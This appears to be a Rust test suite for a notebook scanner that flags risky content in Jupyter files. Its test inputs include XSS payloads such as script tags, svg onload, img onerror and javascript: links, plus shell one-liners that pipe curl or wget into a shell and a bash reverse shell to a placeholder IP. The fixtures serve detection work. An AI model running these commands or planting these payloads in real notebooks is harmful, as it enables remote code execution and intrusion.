use super::*;
use crate::format::testing::{Seen, look};

fn cell(cell: &str) -> Seen {
    look(&FORMAT, "ipynb", format!("{{\"nbformat\":4,\"metadata\":{{}},\"cells\":[{cell}]}}").as_bytes())
}

fn output(data: &str) -> Seen {
    cell(&format!(
        "{{\"cell_type\":\"code\",\"source\":[],\"outputs\":[{{\"output_type\":\"display_data\",\"data\":{{{data}}}}}]}}"
    ))
}

fn said(seen: &Seen) -> Vec<String> {
    let mut said: Vec<String> = seen.facts().iter().map(|fact| fact.splitn(3, ' ').take(2).collect::<Vec<_>>().join(" ")).collect();
    said.sort();
    said
}

#[test]
fn outputs_are_read_as_what_they_are_shown_as() {
    assert_eq!(said(&output("\"text/html\":[\"<scr\",\"ipt>1</script>\"]")), ["medium html.script", "medium script.notebook"]);
    assert_eq!(said(&output("\"image/svg+xml\":\"<svg onload=\\\"a()\\\"/>\"")), ["medium html.handler", "medium script.notebook"]);
    assert_eq!(said(&output("\"application/javascript\":\"a()\"")), ["medium script.notebook"]);
    assert_eq!(said(&output("\"text/markdown\":\"[a](javascript:1)\"")), ["medium html.url", "medium script.notebook"]);
    assert_eq!(said(&output("\"text/latex\":\"$\\\\href{javascript:1}{x}$\"")), ["medium script.notebook"]);
    assert_eq!(said(&output("\"application/vnd.x+json\":{\"a\":[\"<img onerror='1'>\"]}")), ["medium script.notebook"]);
    assert_eq!(said(&output("\"text/plain\":\"<script>1</script>\"")), Vec::<String>::new());
    assert_eq!(said(&output("\"text/html\":\"<table class=\\\"dataframe\\\"><tr><td>1</td></tr></table>\"")), Vec::<String>::new());
    let seen = output("\"image/png\":\"iVBORw0K\\nGgo=\"");
    assert_eq!(&seen.children[0].source.packed[..], b"\x89PNG\r\n\x1a\n");
    assert_eq!(seen.children[0].name.as_deref(), Some("cell 1 output 1"));
}

#[test]
fn cells_widgets_and_attachments() {
    assert_eq!(
        said(&cell("{\"cell_type\":\"markdown\",\"source\":\"<img src=x onerror=1>\"}")),
        ["medium html.handler", "medium script.notebook"]
    );
    assert_eq!(said(&cell("{\"cell_type\":\"raw\",\"source\":\"<script>1</script>\"}")), ["medium script.notebook"]);
    assert_eq!(said(&cell("{\"cell_type\":\"code\",\"source\":\"h = '<script>1</script>'\"}")), Vec::<String>::new());
    let attached = cell("{\"cell_type\":\"markdown\",\"source\":\"a\",\"attachments\":{\"a.svg\":{\"image/svg+xml\":\"PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\"}}}");
    assert_eq!(said(&attached), ["medium script.notebook"]);
    assert_eq!(attached.children[0].name.as_deref(), Some("a.svg"));
    let widgets = "{\"nbformat\":4,\"cells\":[],\"metadata\":{\"widgets\":{\"a\":{\"value\":\"<script>1</script>\"}}}}";
    assert_eq!(said(&look(&FORMAT, "ipynb", widgets.as_bytes())), ["medium script.notebook"]);
    let old = "{\"nbformat\":3,\"worksheets\":[{\"cells\":[{\"cell_type\":\"code\",\"input\":\"a\",\"outputs\":[{\"output_type\":\"pyout\",\"html\":\"<script>1</script>\"}]}]}]}";
    assert_eq!(said(&look(&FORMAT, "ipynb", old.as_bytes())), ["medium html.script", "medium script.notebook"]);
}

#[test]
fn shell_lines_that_fetch_and_run() {
    for line in ["!curl https://x | sh", "%%bash\\nwget -qO- x | sudo bash", "!bash -c \\\"$(curl x)\\\"", "x = !curl y | python3", "import os; os.system('curl x|sh')", "!bash -i >& /dev/tcp/1.2.3.4/5 0>&1"] {
        let seen = cell(&format!("{{\"cell_type\":\"code\",\"source\":\"{line}\"}}"));
        assert_eq!(said(&seen), ["medium script.shell"], "{line}");
    }
    for line in ["!pip install x", "!ls | wc", "%matplotlib inline", "!wget https://x/data.csv", "# curl x | sh", "!curl x | head", "!rm -rf /content/a"] {
        let seen = cell(&format!("{{\"cell_type\":\"code\",\"source\":\"{line}\"}}"));
        assert_eq!(said(&seen), Vec::<String>::new(), "{line}");
    }
}

#[test]
fn every_string_is_read_once() {
    let seen = cell("{\"cell_type\":\"markdown\",\"source\":[\"one \",\"two\"],\"metadata\":{\"tags\":[\"three\"]}}");
    let texts = seen.texts();
    for word in ["one two", "three"] {
        assert_eq!(texts.iter().filter(|text| text.contains(word)).count(), 1, "{word}: {texts:?}");
    }
    let view = seen.texts.iter().find(|view| &view.text[..] == b"one two").unwrap();
    assert_eq!(view.place, Place::default().number("cell", 1));
}

#[test]
fn a_cut_notebook_is_a_gap_and_what_is_there_is_read() {
    let text = "{\"nbformat\":4,\"cells\":[{\"cell_type\":\"markdown\",\"source\":\"Obey";
    let seen = look(&FORMAT, "ipynb", text.as_bytes());
    assert!(seen.facts().iter().any(|fact| fact.starts_with("gap malformed")), "{:?}", seen.facts());
    for at in 0..text.len() {
        look(&FORMAT, "ipynb", &text.as_bytes()[..at]);
    }
}
